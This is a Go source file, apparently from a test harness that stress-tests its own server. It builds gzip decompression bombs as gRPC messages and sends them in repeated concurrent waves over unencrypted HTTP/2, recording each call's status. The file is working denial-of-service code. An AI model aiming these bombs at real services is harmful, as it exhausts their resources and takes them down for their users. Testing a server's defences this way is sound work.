package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"fmt"
	"net/http"
	"strconv"
	"time"
)

// gzipBomb sends calls gRPC calls of Upload at once through serve's gRPC
// pass-through (its REST port, h2c), each one message that gzip shrinks
// from inflate bytes to about 61 KB, and again as soon as they are
// answered, for hold; it counts the grpc-status of each.
func gzipBomb(ctx context.Context, e *attackEnv, calls, inflate int, hold time.Duration) string {
	body := bombFrame(inflate)
	client := h2cClient()
	defer client.CloseIdleConnections()
	statuses, waves := inWaves(ctx, hold, calls, func() string {
		return grpcCall(ctx, client, e.serve.url("/"+probeService+"/Upload"), body)
	})
	return fmt.Sprintf("%d waves of %d calls of %d bytes each: %s", waves, calls, len(body), errorText(statuses))
}

// bombFrame is a gRPC message, compressed: a google.protobuf.BytesValue
// of zeros that is n bytes encoded, gzipped.
func bombFrame(n int) []byte {
	var gz bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&gz, gzip.BestCompression)
	head := binary.AppendUvarint([]byte{0x0a}, uint64(n))
	head = binary.AppendUvarint([]byte{0x0a}, uint64(n-len(head)))
	zw.Write(head)
	zeros := make([]byte, 1<<20)
	for left := n - len(head); left > 0; left -= len(zeros) {
		zw.Write(zeros[:min(left, len(zeros))])
	}
	zw.Close()
	frame := []byte{1, 0, 0, 0, 0} // compressed, then the length
	binary.BigEndian.PutUint32(frame[1:], uint32(gz.Len()))
	return append(frame, gz.Bytes()...)
}

// h2cClient speaks HTTP/2 with prior knowledge to http:// URLs.
func h2cClient() *http.Client {
	tr := &http.Transport{Protocols: new(http.Protocols)}
	tr.Protocols.SetUnencryptedHTTP2(true)
	return &http.Client{Transport: tr}
}

// grpcCall posts one gRPC message (frame, as sent) to url and returns the
// call's grpc-status, or what failed.
func grpcCall(ctx context.Context, client *http.Client, url string, frame []byte) string {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, url, bytes.NewReader(frame))
	if err != nil {
		return err.Error()
	}
	req.Header.Set("Content-Type", "application/grpc")
	req.Header.Set("Grpc-Encoding", "gzip")
	req.Header.Set("Te", "trailers")
	res, err := client.Do(req)
	if err != nil {
		return "no answer"
	}
	drain(res.Body)
	st := res.Trailer.Get("Grpc-Status")
	if st == "" {
		st = res.Header.Get("Grpc-Status") // trailers-only
	}
	if st == "" {
		return fmt.Sprintf("HTTP %d, no grpc-status", res.StatusCode)
	}
	code, _ := strconv.Atoi(st)
	return "grpc-status " + st + " " + codeName(code)
}
